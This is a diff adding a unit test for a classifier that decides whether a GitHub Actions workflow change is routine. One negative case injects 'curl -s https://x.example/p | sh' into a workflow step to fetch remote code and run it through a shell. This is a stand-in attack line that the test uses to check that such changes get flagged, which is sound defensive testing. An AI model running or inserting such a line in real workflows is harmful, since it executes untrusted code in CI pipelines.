@@ -548,6 +548,15 @@ jobs:
     expect(isRoutineWorkflowChange(base, base.replace('    steps:\n', '    steps:\n      - run: echo hi\n'))).toBe(false);
     expect(isRoutineWorkflowChange(base, 'jobs: [')).toBe(false);
   });
+  it('treats a new choice of a manually started workflow\'s input as routine; a new input, trigger or step is not', () => {
+    const dispatch = (options: string, extra = '') =>
+      `name: Update main version\non:\n  workflow_dispatch:\n    inputs:\n      major_version:\n        type: choice\n        description: The major version to update\n        options:\n${options}${extra}jobs:\n  tag:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git tag -f \${{ github.event.inputs.major_version }}\n`;
+    const before = dispatch('          - v3\n          - v2\n');
+    expect(isRoutineWorkflowChange(before, dispatch('          - v4\n          - v3\n          - v2\n'))).toBe(true);
+    expect(isRoutineWorkflowChange(before, dispatch('          - v3\n          - v2\n', '      target:\n        type: string\n'))).toBe(false);
+    expect(isRoutineWorkflowChange(before, before.replace('  workflow_dispatch:', '  issue_comment:\n  workflow_dispatch:'))).toBe(false);
+    expect(isRoutineWorkflowChange(before, before.replace('git tag -f', 'curl -s https://x.example/p | sh; git tag -f'))).toBe(false);
+  });
 });
 
 describe('gha-ref-version-mismatch', () => {
